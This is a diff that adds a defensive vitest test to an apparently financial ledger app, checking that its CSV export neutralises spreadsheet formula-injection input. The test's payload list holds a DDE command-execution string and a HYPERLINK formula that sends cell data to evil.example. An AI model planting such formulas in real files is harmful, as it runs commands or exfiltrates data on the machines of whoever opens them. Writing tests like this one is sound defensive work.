@@ -1,6 +1,7 @@
 import { randomUUID } from 'node:crypto';
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
+import { parse } from 'csv-parse/sync';
 import fc from 'fast-check';
 import { generateKeyPair, importJWK, type JWK, SignJWT } from 'jose';
 import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
@@ -11,6 +12,7 @@ import { ROLES } from '../../shared/domain/funding-line.ts';
 import { ROUTES } from '../../shared/http/routes.ts';
 import { steps } from '../e2e/support/api-steps.ts';
 import { type ApiResponse, type Runtime, startRuntime } from '../e2e/support/local-runtime.ts';
+import { looksRunnable, openInSpreadsheet } from '../support/spreadsheet-reader.ts';
 import { type InvariantReport, scanTable } from './support/invariant-checker.ts';
 import { rawRequest } from './support/raw-http.ts';
 import { reliabilityRun } from './support/reliability-run.ts';
@@ -646,5 +648,33 @@ describe('hostile input never reaches a 5xx and never writes', () => {
     const { items: _a, ...ledgerAfter } = after.counts;
     const { items: _b, ...ledgerBefore } = before.counts;
     expect(ledgerAfter).toEqual(ledgerBefore);
+  });
+});
+
+describe('formula payloads in the spreadsheet export', () => {
+  it('come out of the ledger CSV as inert text: no cell a spreadsheet would run, numbers still numbers', async () => {
+    const payloads = ["=cmd|' /C calc'!A0", '+HYPERLINK("http://evil.example/?"&A1)', '－1+1'];
+    for (const name of payloads) {
+      const submitted = await s.submit(allocationId, 1_000_000, 'csv-finance', undefined, {
+        payee: { name, kind: 'contractor' },
+        purpose: `@${name}`,
+      });
+      expect(submitted.status).toBe(201);
+      await s.approveAll(submitted.body.id);
+      run.figures.operations += 2;
+    }
+    const csv = await (
+      await fetch(`${rt.url}/ledger/entries?fiscalYear=2024&format=csv`, {
+        headers: { authorization: `Bearer ${await s.as('csv-auditor', 'auditor')}` },
+      })
+    ).text();
+    const records = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
+    const cells = records.flatMap((r) => Object.values(r));
+    const sheet = openInSpreadsheet(csv).flatMap((row) => Object.values(row));
+    expect(records.map((r) => r.payeeName)).toEqual(expect.arrayContaining(payloads.map((p) => `'${p}`)));
+    expect(cells.filter(looksRunnable)).toEqual([]);
+    expect(sheet.filter((cell) => cell.f !== undefined)).toEqual([]);
+    expect(records.every((r) => /^\d+$/.test(r.amountVnd ?? ''))).toBe(true);
+    run.figures.notes.csvCellsSwept = cells.length;
   });
 });
